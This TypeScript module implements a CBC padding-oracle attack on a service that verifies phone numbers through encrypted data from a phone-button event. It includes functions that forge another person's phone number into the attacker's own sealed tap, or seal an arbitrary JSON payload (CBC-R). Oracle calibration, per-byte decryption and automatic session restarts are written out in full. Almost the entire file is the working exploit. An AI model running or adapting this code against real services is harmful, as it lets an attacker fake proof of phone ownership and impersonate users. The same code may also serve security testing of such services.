import { randomBytes } from 'node:crypto'

/** What the phone button's event brings, or what an attacker puts in its place. */
export interface Sealed {
  encryptedData: string
  iv: string
}

/** A service as its attacker meets it: with a session of his own, but without that session's key. */
export interface Target {
  /** How many submissions it takes at a time. */
  lanes: number
  submit(sealed: Sealed): Promise<Answer>
  /** A tap on the attacker's own device: sealed with the key he does not know. */
  tap(): Promise<Sealed>
  /** Starts over with another session; which may bring another key. */
  signInAgain(): Promise<void>
}

export interface Answer {
  /** All that can be seen of the answer, less what differs every time. */
  looks: string
  /** Whether the service took the data for proof of a number. */
  accepted: boolean
}

export interface Attack {
  accepted: boolean
  requests: number
  /** Every answer there was, and how often. */
  looks: Map<string, number>
}

const blockBytes = 16

/**
 * Puts another number into `phoneNumber` of the attacker's own tap. The digits fill the second block together with
 * `","pu`; changing the first block's ciphertext changes them and garbles the first block, whose plaintext
 * `{"phoneNumber":"` the iv then sets right. That takes the oracle for one block: about 2,000 requests.
 *
 * @param numbers Of eleven digits each: the attacker's own and the one to become.
 */
export function forgeDigits(
  target: Target,
  { from, to, budget }: { from: string; to: string; budget: number },
): Promise<Attack> {
  return attack(target, budget, async (oracle) => {
    const { encryptedData } = await target.tap()
    const [first, ...rest] = blocksOf(Buffer.from(encryptedData, 'base64'))
    const edited = xor(first!, xor(Buffer.from(`${from}","pu`), Buffer.from(`${to}","pu`)))
    const iv = xor(await decryptBlock(oracle, edited), Buffer.from('{"phoneNumber":"'))
    return seal(iv, [edited, ...rest])
  })
}

/**
 * Seals a payload of the attacker's choice from nothing (CBC-R): the last block is random, and what it decrypts to
 * says which block has to stand before it, and so on up to the iv. That takes about 2,000 requests for each block.
 *
 * @see https://www.usenix.org/legacy/event/woot10/tech/full_papers/Rizzo.pdf
 */
export function forgePayload(
  target: Target,
  { payload, budget }: { payload: object; budget: number },
): Promise<Attack> {
  return attack(target, budget, async (oracle) => {
    const plain = blocksOf(pad(Buffer.from(JSON.stringify(payload))))
    const sealed: Buffer[] = [randomBytes(blockBytes)]
    for (const block of plain.toReversed()) sealed.unshift(xor(await decryptBlock(oracle, sealed[0]!), block))
    const [iv, ...blocks] = sealed
    return seal(iv!, blocks)
  })
}

/** The answers tell nothing, or no longer: the key may have changed, or all answers are alike. */
class NoOracle extends Error {}
class OutOfBudget extends Error {}

/** Starts over, with a new session and new blocks, for as long as there are requests left. */
async function attack(target: Target, budget: number, forge: (oracle: Oracle) => Promise<Sealed>): Promise<Attack> {
  const oracle = new Oracle(target, budget)
  try {
    while (!oracle.accepted) {
      try {
        await oracle.calibrate()
        await oracle.submit(await forge(oracle))
      } catch (error) {
        if (!(error instanceof NoOracle)) throw error
        await target.signInAgain()
      }
    }
  } catch (error) {
    if (!(error instanceof OutOfBudget)) throw error
  }
  return oracle
}

/** Tells from an answer whether the last block unpadded: it does if the answer is not the one for random data. */
class Oracle implements Attack {
  accepted = false
  requests = 0
  readonly looks = new Map<string, number>()
  readonly lanes: number
  readonly #target: Target
  readonly #budget: number
  #badPadding = ''

  constructor(target: Target, budget: number) {
    this.#target = target
    this.#budget = budget
    this.lanes = target.lanes
  }

  async submit(sealed: Sealed): Promise<string> {
    if (this.requests >= this.#budget) throw new OutOfBudget()
    this.requests += 1
    const { looks, accepted } = await this.#target.submit(sealed)
    this.looks.set(looks, (this.looks.get(looks) ?? 0) + 1)
    this.accepted ||= accepted
    return looks
  }

  /** Random data has good padding once in 256 times: the answer most of it gets is the one for bad padding. */
  async calibrate(): Promise<void> {
    const answers: string[] = []
    for (let i = 0; i < 5; i += 1) answers.push(await this.#ask(randomBytes(blockBytes), randomBytes(blockBytes)))
    this.#badPadding = answers.toSorted()[2]!
  }

  async isPadded(before: Buffer, block: Buffer): Promise<boolean> {
    return (await this.#ask(before, block)) !== this.#badPadding
  }

  // The probe stands before the block and not in the iv, so that no two probes are the same ciphertext: a service
  // that takes each ciphertext once would else see through the second.
  #ask(before: Buffer, block: Buffer): Promise<string> {
    return this.submit(seal(randomBytes(blockBytes), [before, block]))
  }
}

/** What the block decrypts to before CBC adds the block in front of it. */
async function decryptBlock(oracle: Oracle, block: Buffer): Promise<Buffer> {
  const decrypted = Buffer.alloc(blockBytes)
  for (let padding = 1; padding <= blockBytes; padding += 1) {
    const at = blockBytes - padding
    const probe = (byte: number) => {
      const before = randomBytes(blockBytes)
      before[at] = byte
      for (let i = at + 1; i < blockBytes; i += 1) before[i] = decrypted[i]! ^ padding
      return before
    }
    const byte = await findByte(oracle, async (guess) => {
      if (!(await oracle.isPadded(probe(guess), block))) return false
      // The last byte may also complete a longer padding, by what happens to stand before it.
      return padding > 1 || ((await oracle.isPadded(probe(guess), block)) && oracle.isPadded(probe(guess), block))
    })
    decrypted[at] = byte ^ padding
  }
  return decrypted
}

async function findByte(oracle: Oracle, isRight: (guess: number) => Promise<boolean>): Promise<number> {
  for (let first = 0; first < 256; first += oracle.lanes) {
    const guesses = Array.from({ length: Math.min(oracle.lanes, 256 - first) }, (_, i) => first + i)
    const answers = await Promise.allSettled(guesses.map(isRight))
    for (const [i, answer] of answers.entries()) {
      if (answer.status === 'rejected') throw answer.reason
      if (answer.value) return guesses[i]!
    }
  }
  throw new NoOracle()
}

function seal(iv: Buffer, blocks: Buffer[]): Sealed {
  return { iv: iv.toString('base64'), encryptedData: Buffer.concat(blocks).toString('base64') }
}

/** PKCS#7 */
function pad(bytes: Buffer): Buffer {
  const missing = blockBytes - (bytes.length % blockBytes)
  return Buffer.concat([bytes, Buffer.alloc(missing, missing)])
}

function blocksOf(bytes: Buffer): Buffer[] {
  return Array.from({ length: bytes.length / blockBytes }, (_, i) =>
    bytes.subarray(i * blockBytes, (i + 1) * blockBytes),
  )
}

function xor(a: Buffer, b: Buffer): Buffer {
  return Buffer.from(a.map((byte, i) => byte ^ b[i]!))
}
